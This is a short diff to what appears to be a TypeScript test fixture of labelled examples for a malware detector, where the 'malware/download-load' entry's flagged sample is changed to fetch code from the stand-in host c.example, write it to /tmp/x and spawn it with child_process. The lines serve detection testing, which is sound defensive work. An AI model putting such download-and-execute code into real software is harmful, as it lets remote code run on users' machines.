@@ -145,7 +145,7 @@ const examples: Readonly<Record<string, Example>> = {
     left: `${cp} cp.exec('base64 -d picture.b64 > picture.png');`,
   },
   'malware/download-load': {
-    found: `${fs} fetch('https://c.example/a').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/x.js', t); require('/tmp/x.js'); });`,
+    found: `${fs} fetch('https://c.example/a').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/x', t); require('child_process').spawn('/tmp/x'); });`,
     left: `${fs} fetch('https://c.example/a').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/x.json', t); require('./y.js'); });`,
   },
   'malware/remote-module': {
